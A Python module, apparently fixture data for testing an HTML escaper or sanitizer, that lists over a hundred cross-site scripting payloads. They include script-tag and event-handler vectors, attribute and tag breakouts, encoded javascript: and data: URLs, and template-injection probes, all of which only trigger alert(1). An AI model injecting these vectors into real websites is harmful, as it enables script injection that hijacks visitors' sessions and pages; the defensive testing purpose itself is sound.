"""Hostile texts: each tries to run ``alert`` (or to leave an element, an attribute, a script, a comment) wherever a page might print it."""

RUN = "alert(1)"
PAYLOADS: tuple[str, ...] = (
    # elements
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src=data:,{RUN}></script>", f"<script/x>{RUN}</script>", f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script\x0c>{RUN}</script>", f"<script\n>{RUN}</script>", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"</script><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>", f"<!--<script>{RUN}</script>-->", f"<!--><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"</template><script>{RUN}</script>",
    f"</select><script>{RUN}</script>", f"</option></select><img src=x onerror={RUN}>", f"</svg><script>{RUN}</script>", f"</math><script>{RUN}</script>",
    # handlers
    f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'>", f"<img src=x onerror=\"{RUN}\">", f"<img/src=x/onerror={RUN}>", f"<img src=x ONERROR={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>", f"<img src='x'onerror={RUN}>", f"<img src=x:x onerror={RUN}>", f"<img srcset=x onerror={RUN}>", f"<img\x00src=x onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><script href=data:,{RUN} />", f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a>", f"<svg><set attributeName=onmouseover to={RUN}>", f"<svg><foreignObject><script>{RUN}</script>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x\">", f"<svg><style><img src=x onerror={RUN}></style>",
    f"<math><mi//xlink:href=\"data:x,<script>{RUN}</script>\">", f"<math href=javascript:{RUN}>x</math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    f"<body onload={RUN}>", f"<body onpageshow={RUN}>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>", f"<video><source onerror={RUN}></video>", f"<video src=x onerror={RUN}>", f"<audio src=x onerror={RUN}>",
    f"<iframe onload={RUN}></iframe>", f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>", f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}>", f"<object data=\"data:text/html,<script>{RUN}</script>\"></object>", f"<embed src=javascript:{RUN}>",
    f"<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\">", f"<marquee onstart={RUN}>x</marquee>", f"<p onmouseover={RUN}>x</p>",
    f"<div onpointerenter={RUN} style=position:fixed;inset:0>x</div>", f"<div style=animation-name:x onanimationstart={RUN}>x</div>",
    f"<xss id=x tabindex=1 onfocus={RUN}></xss>", f"<button autofocus onfocus={RUN}>x</button>", f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<isindex type=image src=1 onerror={RUN}>", f"<keygen autofocus onfocus={RUN}>", f"<table background=javascript:{RUN}><tr><td>x</td></tr></table>",
    f"<td background=\"javascript:{RUN}\">x</td>", f"<link rel=stylesheet href=\"data:text/css,*{{}}\" onload={RUN}>", f"<style onload={RUN}></style>",
    f"<style>@import 'javascript:{RUN}';</style>", f"<base href=\"javascript:{RUN}//\"><a href=x>x</a>", f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    f"<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,<script>{RUN}</script>\">", f"<frameset onload={RUN}>", f"<dialog open onclose={RUN}>x</dialog>",
    # out of an attribute
    f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"\" onfocus={RUN} autofocus x=\"", f"' onfocus={RUN} autofocus x='", f"\" onerror=\"{RUN}", f"x\" onmouseover=\"{RUN}\" y=\"",
    f"` onerror={RUN} `", f"\"/><svg/onload={RUN}>", f"&quot;><script>{RUN}</script>", f"&#34;&#62;&#60;script&#62;{RUN}&#60;/script&#62;", f"\\\"><script>{RUN}</script>",
    f"%22%3E%3Cscript%3E{RUN}%3C/script%3E", f"\u0022\u003e\u003cscript\u003e{RUN}\u003c/script\u003e", f"＜script＞{RUN}＜/script＞",
    # addresses
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}", f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}", f"javascript://example.org/%0a{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}", f"view-source:javascript:{RUN}", f"blob:{RUN}", f"https://example.org/\" onmouseover=\"{RUN}", f"https://example.org/'><script>{RUN}</script>",
    f"http://javascript:{RUN}@example.org/", f"//example.org/<script>{RUN}</script>", f"https:\\\\example.org\\<img src=x onerror={RUN}>", f"feed:javascript:{RUN}",
    f"<a href=javascript:{RUN}>x</a>", f"<a href=\"java&#9;script:{RUN}\">x</a>", f"<a href=\"&#x6a;avascript:{RUN}\">x</a>", f"<a href=\"\x00javascript:{RUN}\">x</a>",
    f"<a href=\"data:text/html,<script>{RUN}</script>\">x</a>", f"<a href=https://example.org onclick={RUN}>x</a>", f"<img src=\"data:image/svg+xml,<svg onload={RUN}>\">",
    # templates, JSON, search marks
    "{{ 7*7 }}", "{% raw %}", "{{ config }}", "${alert(1)}", f"\u2028{RUN}//", f"\";{RUN};//", f"';{RUN};//", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\x02<script>{RUN}</script>", f"\x03\x02<img src=x onerror={RUN}>", f"{{\"href\": \"javascript:{RUN}\", \"label\": \"x\"}}",
)  # fmt: skip
